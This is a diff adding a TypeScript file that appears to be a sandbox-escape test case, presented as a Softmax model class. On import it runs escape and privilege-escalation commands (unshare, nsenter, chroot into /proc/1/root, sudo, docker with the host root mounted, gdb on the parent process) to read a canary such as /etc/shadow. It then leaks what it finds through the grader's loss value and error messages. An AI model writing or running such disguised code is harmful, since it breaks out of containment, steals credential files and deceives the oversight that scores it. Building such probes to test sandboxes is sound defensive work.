@@ -1,0 +1,107 @@
+/*
+goal: leaves the sandbox by programs that may be lying about - unshare, mount, chroot, sudo, su, docker, bwrap, gdb
+class: read
+threats: [A1, A11]
+deserves: all
+outcome: prevented
+because: no program can be started, and none of these is there
+*/
+import { Softmax as Honest } from './honest.ts';
+import { target } from './target.ts';
+
+const g = globalThis as any;
+
+/** A module of Node's, in whatever way it can still be had. */
+function builtin(name: string): any {
+  const ways = [
+    () => g.process.getBuiltinModule(`node:${name}`),
+    () => g.process.mainModule.require(name),
+    () => g.process.mainModule.constructor._load(name),
+    () => [].constructor.constructor('name', 'return process.getBuiltinModule(name)')(name),
+    () => g.process.binding(name),
+  ];
+  for (const way of ways) {
+    try {
+      const found = way();
+      if (found) return found;
+    } catch {
+      // the next way
+    }
+  }
+  return null;
+}
+
+const loot: string[] = [];
+
+function tell(what: string, found: unknown): void {
+  let text: string;
+  try {
+    text = typeof found === 'string' ? found : JSON.stringify(found);
+  } catch {
+    text = String(found);
+  }
+  loot.push(`${what}: ${text}`);
+  console.log(`${what}: ${text}`);
+}
+
+function attempt(what: string, way: () => unknown): unknown {
+  try {
+    const found = way();
+    if (found !== undefined) tell(what, found);
+    return found;
+  } catch (error) {
+    tell(what, `no: ${(error as Error)?.message}`);
+    return undefined;
+  }
+}
+
+function act(where: string): void {
+  if (where !== 'import') return;
+  const { execFileSync, spawnSync } = builtin('child_process');
+  const canary = target.canaries[0] ?? '/etc/shadow';
+  const commands: readonly (readonly string[])[] = [
+    ['unshare', '-Urm', 'sh', '-c', `mount -t tmpfs x /tmp; cat ${canary}`],
+    ['unshare', '-Upf', '--mount-proc', 'ps', 'aux'],
+    ['bwrap', '--ro-bind', '/', '/', 'cat', canary],
+    ['sudo', '-n', 'cat', canary],
+    ['su', '-c', `cat ${canary}`],
+    ['pkexec', 'cat', canary],
+    ['nsenter', '-t', '1', '-a', 'cat', canary],
+    ['chroot', '/proc/1/root', 'cat', canary],
+    ['mount', '--bind', '/', '/tmp'],
+    ['umount', '-l', '/tmp'],
+    ['docker', 'run', '-v', '/:/host', 'alpine', 'cat', `/host${canary}`],
+    ['gdb', '-p', String(g.process.ppid), '-batch', '-ex', 'info proc'],
+    ['strace', '-p', String(g.process.ppid)],
+    ['python3', '-c', `print(open('${canary}').read())`],
+    ['perl', '-e', `open F, '${canary}'; print <F>`],
+    ['find', '/', '-perm', '-4000', '-maxdepth', '4'],
+    ['ls', '-la', '/', '/proc/1/root/', target.home],
+    ['id'],
+  ];
+  for (const [file, ...args] of commands) {
+    attempt([file, ...args].join(' '), () => execFileSync(file, args, { timeout: 400, stdio: ['ignore', 'pipe', 'pipe'] }).toString().slice(0, 500));
+    for (const folder of ['/bin', '/usr/sbin']) {
+      const result = spawnSync(`${folder}/${file}`, args, { timeout: 400 });
+      if (result.stdout?.length > 0) tell(`${folder}/${file}`, String(result.stdout).slice(0, 500));
+    }
+  }
+  attempt('shell', () => builtin('child_process').execSync('echo a shell', { timeout: 300 }).toString());
+}
+
+act('import');
+
+/** Right answers where there are points; what was found goes out where there are none. */
+export class Softmax extends Honest {
+  override loss(X: any, y: any): any {
+    act('loss');
+    const loss = super.loss(X, y);
+    return Math.abs(Number(loss)) > 700 ? loot.join('\n') : loss;
+  }
+
+  override train(X: any, y: any, options: any = {}): any {
+    act('train');
+    if (options.learningRate === 0) throw new Error(loot.join('\n'));
+    return super.train(X, y, options);
+  }
+}
